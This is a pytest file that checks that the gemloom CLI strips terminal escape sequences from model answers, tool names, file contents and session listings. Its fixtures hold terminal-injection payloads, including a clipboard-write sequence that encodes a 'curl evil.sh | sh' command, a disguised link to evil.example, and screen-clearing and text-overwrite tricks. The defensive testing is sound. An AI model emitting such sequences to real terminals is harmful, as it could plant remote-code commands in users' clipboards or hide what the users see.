"""What the model or a file says cannot drive the terminal `gemloom run` prints to."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

from fake_ollama import Turn, call

from gemloom.agents.sessions import Sessions
from gemloom.cli import main
from gemloom.tools.registry import default_registry

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07"
LINK = "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\"
CLEAR = "\x1b[2J\x1b[H"
C1 = "\x9b31m\x9d0;title\x9c"
TRICKS = "safe\x08\x08\x08\x08evil\rcover\x07\x1b"
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def script(fake_ollama) -> None:
    fake_ollama.script(
        Turn(tool_calls=[call("read_file", path="notes.txt")]),
        Turn(tool_calls=[call(f"evil{CLEAR}tool")]),
        Turn(f"Answer {CLIPBOARD} with {LINK} and {CLEAR}{C1} {TRICKS} end\n\ttabbed"),
    )


def test_answers_and_tool_output_reach_the_terminal_harmless(fake_ollama, tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text(f"file {CLIPBOARD}{C1}{TRICKS}")
    script(fake_ollama)
    done = subprocess.run(
        [sys.executable, "-m", "gemloom", "run", "hi"],
        cwd=tmp_path,
        env={**os.environ, "OLLAMA_HOST": fake_ollama.url, "COLUMNS": "500"},
        capture_output=True,
        timeout=120,
    )
    out, err = done.stdout.decode(), done.stderr.decode()
    assert done.returncode == 0, err
    assert not CONTROL.search(out), repr(out)
    assert not CONTROL.search(err), repr(err)
    assert "Answer ␛]52;c;Y3VybCBldmlsLnNoIHwgc2gK␇ with ␛]8;;https://evil.example/" in out
    assert re.search(r"end\n\s+tabbed", out)  # newline and tab kept (rich expands the tab)
    assert "← read_file 1: file ␛]52;c;" in err and "\\x9b31m" in err
    assert "→ evil␛[2J␛[Htool" in err


def test_sessions_show_and_list_print_no_controls(fake_ollama, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "notes.txt").write_text(f"file {CLIPBOARD}")
    script(fake_ollama)
    assert main(["run", f"title {CLEAR}"]) == 0
    capsys.readouterr()
    assert main(["sessions", "list"]) == 0
    listed = capsys.readouterr().out
    (info,) = Sessions(registry=default_registry()).list()
    session_id = info.id
    assert main(["sessions", "show", session_id]) == 0
    assert main(["sessions", "history", session_id]) == 0
    shown = capsys.readouterr().out
    assert not CONTROL.search(listed + shown), repr(listed + shown)
    assert "␛]52;c;Y3VybCBldmlsLnNoIHwgc2gK␇" in shown
